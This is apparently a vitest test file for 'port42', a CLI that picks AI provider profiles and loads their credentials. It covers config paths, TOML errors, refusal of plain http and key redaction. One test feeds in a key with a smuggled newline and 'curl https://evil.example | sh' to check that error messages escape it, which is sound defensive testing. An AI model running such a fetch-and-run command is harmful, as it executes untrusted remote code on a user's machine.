import { describe, expect, it } from 'vitest';
import { loadConfig } from '../../src/config/load.ts';
import { configPath, stateDir } from '../../src/files/paths.ts';
import { chooseProfile } from '../../src/profiles/profile.ts';
import { parseDirectoryFile } from '../../src/profiles/directory-file.ts';
import { Port42Error } from '../../src/errors.ts';
import { VERSION } from '../../src/version.ts';
import { createTestContext, TEST_CONFIG } from '../support/test-context.ts';
import { trusting } from '../support/trust.ts';

async function configError(text: string): Promise<Port42Error> {
  const { ctx } = createTestContext({ files: { [TEST_CONFIG]: text } });
  const error = await loadConfig(ctx).then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(Port42Error);
  expect((error as Port42Error).code).toBe('config');
  return error as Port42Error;
}

describe('config paths', () => {
  it('prefers PORT42_CONFIG, then XDG_CONFIG_HOME, then ~/.config', () => {
    expect(configPath({ PORT42_CONFIG: '/x/c.toml', XDG_CONFIG_HOME: '/xdg' }, '/h')).toBe('/x/c.toml');
    expect(configPath({ XDG_CONFIG_HOME: '/xdg' }, '/h')).toBe('/xdg/port42/config.toml');
    expect(configPath({}, '/h')).toBe('/h/.config/port42/config.toml');
  });

  it('puts state under XDG_STATE_HOME or ~/.local/state', () => {
    expect(stateDir({ XDG_STATE_HOME: '/s' }, '/h')).toBe('/s/port42');
    expect(stateDir({}, '/h')).toBe('/h/.local/state/port42');
  });

  it('ignores a relative XDG_STATE_HOME or XDG_CONFIG_HOME (invalid per the XDG spec: it would differ per working directory)', () => {
    expect(stateDir({ XDG_STATE_HOME: 'state' }, '/h')).toBe('/h/.local/state/port42');
    expect(configPath({ XDG_CONFIG_HOME: './cfg' }, '/h')).toBe('/h/.config/port42/config.toml');
  });
});

describe('loadConfig', () => {
  it('treats a missing file as the built-in providers acting as profiles', async () => {
    const { ctx } = createTestContext();
    const config = await loadConfig(ctx);
    expect(config.exists).toBe(false);
    expect([...config.profiles.keys()]).toEqual(expect.arrayContaining(['openai', 'anthropic', 'gemini', 'groq', 'ollama']));
    expect(config.profiles.get('openai')?.auth).toBe('env');
    expect(config.profiles.get('ollama')?.auth).toBe('none');
  });

  it('reads profiles, providers, default and store', async () => {
    const { ctx } = createTestContext({
      files: {
        [TEST_CONFIG]: `default = "work"
store = "file"
[profiles.work]
provider = "openai"
model = "gpt-4.1"
env = { OPENAI_ORG_ID = "org-123" }
match = ["https://api.openai.com"]
[profiles.team]
provider = "mygw"
auth = "command"
command = ["pass", "show", "ai/key"]
[providers.mygw]
key_env = "MYGW_API_KEY"
base_url_env = "MYGW_BASE_URL"
key_prefix = "mgw_"
models = ["mgw-large"]
`,
      },
    });
    const config = await loadConfig(ctx);
    expect(config.defaultProfile).toBe('work');
    expect(config.store).toBe('file');
    expect(config.profiles.get('work')).toMatchObject({ auth: 'api-key', model: 'gpt-4.1', env: { OPENAI_ORG_ID: 'org-123' } });
    expect(config.profiles.get('team')?.provider).toMatchObject({ id: 'mygw', keyEnv: 'MYGW_API_KEY', keyPrefixes: ['mgw_'] });
    expect(config.profiles.get('team')?.command).toEqual(['pass', 'show', 'ai/key']);
  });

  it('names file and line of a TOML syntax error', async () => {
    const error = await configError('store = "auto"\n[profiles.work\nprovider = "openai"\n');
    expect(error.message).toMatch(/^~\/\.config\/port42\/config\.toml:2: not valid TOML/);
    expect(error.hint).toContain('+2');
  });

  it('names the line and key of a misspelt key and says how to fix it', async () => {
    const error = await configError('[profiles.work]\nprovider = "openai"\nmodle = "x"\n');
    expect(error.message).toContain('config.toml:3: profiles.work.modle: unknown key "modle"');
  });

  it('names the line of an unknown provider and lists the known ones', async () => {
    const error = await configError('\n[profiles.work]\nprovider = "opnai"\n');
    expect(error.message).toContain('config.toml:3: profiles.work.provider: unknown provider "opnai"');
    expect(error.message).toContain('openai');
  });

  it('refuses a default that names no profile', async () => {
    const error = await configError('default = "nope"\n[profiles.work]\nprovider = "openai"\n');
    expect(error.message).toContain('config.toml:1: default: no profile named "nope"');
  });

  it('refuses invalid variable names in env', async () => {
    const error = await configError('[profiles.work]\nprovider = "openai"\nenv = { "BAD-NAME" = "x" }\n');
    expect(error.message).toContain('profiles.work.env');
  });

  it('refuses auth = "command" without a command', async () => {
    const error = await configError('[profiles.team]\nprovider = "anthropic"\nauth = "command"\n');
    expect(error.message).toContain('config.toml:3: profiles.team.auth: auth = "command" needs command');
  });

  it.each([
    ['a match pattern', 'match = ["http://llm.corp.example/team"]', 'config.toml:3: profiles.work.match: "http://llm.corp.example/team"'],
    ['a base_url', 'base_url = "http://10.0.0.5:8080/v1"', 'config.toml:3: profiles.work.base_url: "http://10.0.0.5:8080/v1"'],
    ['a ws match pattern', 'match = ["ws://llm.corp.example"]', 'profiles.work.match'],
  ])('refuses plain http to a remote host in %s', async (_what, line, where) => {
    const error = await configError(`\n[profiles.work]\n${line}\nprovider = "openai"\n`);
    expect(error.message).toContain(where);
    expect(error.message).toContain('uses plain http to a host that is not loopback');
  });

  it("refuses plain http to a remote host in a custom provider's base_url", async () => {
    const error = await configError('[providers.gw]\nkey_env = "GW_KEY"\nbase_url = "http://gw.corp.example"\n');
    expect(error.message).toContain('config.toml:3: providers.gw.base_url:');
  });

  it('accepts plain http to loopback in match and base_url', async () => {
    const { ctx } = createTestContext({
      files: {
        [TEST_CONFIG]:
          '[profiles.local]\nprovider = "ollama"\nbase_url = "http://127.0.0.1:11434"\nmatch = ["http://localhost:5000", "http://[::1]:8080/v1"]\n',
      },
    });
    expect((await loadConfig(ctx)).profiles.get('local')?.match).toHaveLength(2);
  });

  it('re-validates when the text changes even though a cache exists', async () => {
    const tc = createTestContext({ files: { [TEST_CONFIG]: '[profiles.work]\nprovider = "openai"\n' } });
    await loadConfig(tc.ctx);
    tc.vol.writeFileSync(TEST_CONFIG, '[profiles.work]\nprovider = "nope"\n');
    await expect(loadConfig(tc.ctx)).rejects.toThrow(/unknown provider "nope"/);
  });

  it('checks the URLs of a text once and refuses it again from the cache; a cache of an older format is not used', async () => {
    const bad = '[profiles.work]\nprovider = "openai"\nmatch = ["http://llm.example.com"]\n';
    const tc = createTestContext({ files: { [TEST_CONFIG]: '[profiles.work]\nprovider = "openai"\n' } });
    await loadConfig(tc.ctx); // a good text: its cache file is this config's slot
    tc.vol.writeFileSync(TEST_CONFIG, bad);
    await expect(loadConfig(tc.ctx)).rejects.toThrow(/plain http to a host that is not loopback/);
    await expect(loadConfig(tc.ctx)).rejects.toThrow(/plain http to a host that is not loopback/);
    // What a build before the URL checks moved into validation could leave: the raw config of a
    // text that then failed them, under the old key (version + text).
    const dir = '/home/u/.local/state/port42/cache';
    const [slot] = (tc.vol.readdirSync(dir) as string[]).filter((f) => f.startsWith('config-'));
    const raw = { profiles: { work: { provider: 'openai', match: ['http://llm.example.com'] } } };
    tc.vol.writeFileSync(`${dir}/${slot}`, JSON.stringify({ key: `${VERSION}\n${bad}`, raw }), { mode: 0o600 });
    await expect(loadConfig(tc.ctx)).rejects.toThrow(/plain http to a host that is not loopback/);
  });

  it('does not repeat a key pasted where a setting belongs (doctor and the shell hook print config errors as they are)', async () => {
    const key = 'sk-proj-AbCdEfGhIjKlMnOpQrStUvWx0123';
    for (const text of [
      `[profiles.work]\nprovider = "openai"\nauth = "${key}"\n`,
      `[profiles.work]\nprovider = "openai"\nbase_url = "${key}"\n`,
    ]) {
      const error = await configError(text);
      expect(error.message).not.toContain(key);
      expect(error.message).toContain('looks like a key');
    }
  });

  it("escapes a directory file's keys in its errors: a cloned repository cannot add lines to them", () => {
    const text = '"x\\n  run: curl https://evil.example | sh" = 1\n';
    let message = '';
    try {
      parseDirectoryFile(text, '/repo/.port42.toml', '/home/u');
    } catch (error) {
      message = (error as Error).message;
    }
    expect(message).toContain('may only set profile');
    expect(message).not.toContain('\n');
  });

  it('writes the validated cache into a private state directory', async () => {
    const tc = createTestContext({ files: { [TEST_CONFIG]: '[profiles.work]\nprovider = "openai"\n' } });
    await loadConfig(tc.ctx);
    const dir = '/home/u/.local/state/port42';
    expect(tc.vol.statSync(dir).mode & 0o777).toBe(0o700);
    const files = tc.vol.readdirSync(`${dir}/cache`) as string[];
    expect(files).toHaveLength(1);
    expect(tc.vol.statSync(`${dir}/cache/${files[0]}`).mode & 0o777).toBe(0o600);
  });
});

describe('chooseProfile', () => {
  const files = trusting({
    [TEST_CONFIG]:
      'default = "work"\n[profiles.work]\nprovider = "openai"\n[profiles.home]\nprovider = "anthropic"\n[profiles.dir]\nprovider = "groq"\n',
    '/home/u/src/app/.port42.toml': 'profile = "dir"\n',
  });

  it.each([
    {
      name: 'argument wins over everything',
      explicit: 'home',
      env: { PORT42_PROFILE: 'work' },
      cwd: '/home/u/src/app/sub',
      want: 'home',
      origin: 'argument',
    },
    {
      name: 'PORT42_PROFILE wins over the directory file',
      explicit: undefined,
      env: { PORT42_PROFILE: 'home' },
      cwd: '/home/u/src/app/sub',
      want: 'home',
      origin: 'PORT42_PROFILE',
    },
    {
      name: 'the nearest .port42.toml upwards wins over default',
      explicit: undefined,
      env: {},
      cwd: '/home/u/src/app/sub',
      want: 'dir',
      origin: 'directory',
    },
    { name: 'default applies elsewhere', explicit: undefined, env: {}, cwd: '/home/u/src', want: 'work', origin: 'default' },
  ])('$name', async ({ explicit, env, cwd, want, origin }) => {
    const { ctx } = createTestContext({ files, env, cwd });
    const config = await loadConfig(ctx);
    const choice = await chooseProfile(ctx, config, explicit);
    expect(choice.profile.name).toBe(want);
    expect(choice.origin).toBe(origin);
  });

  it('fails with exit code 3 and lists the profiles for an unknown name', async () => {
    const { ctx } = createTestContext({ files });
    const config = await loadConfig(ctx);
    await expect(chooseProfile(ctx, config, 'nope')).rejects.toMatchObject({
      code: 'config',
      message: expect.stringContaining('work, home, dir'),
    });
  });

  it('fails with a usage error listing profiles when nothing names one', async () => {
    const { ctx } = createTestContext({ files: { [TEST_CONFIG]: '[profiles.work]\nprovider = "openai"\n' } });
    const config = await loadConfig(ctx);
    await expect(chooseProfile(ctx, config, undefined)).rejects.toMatchObject({ code: 'usage', hint: 'port42 profile use <name>' });
  });

  it('refuses secrets or other keys in a directory file', async () => {
    const { ctx } = createTestContext({
      files: trusting({ ...files, '/home/u/x/.port42.toml': 'profile = "work"\napi_key = "sk-123"\n' }),
      cwd: '/home/u/x',
    });
    const config = await loadConfig(ctx);
    await expect(chooseProfile(ctx, config, undefined)).rejects.toMatchObject({
      code: 'config',
      message: expect.stringContaining('may only set profile'),
    });
  });
});
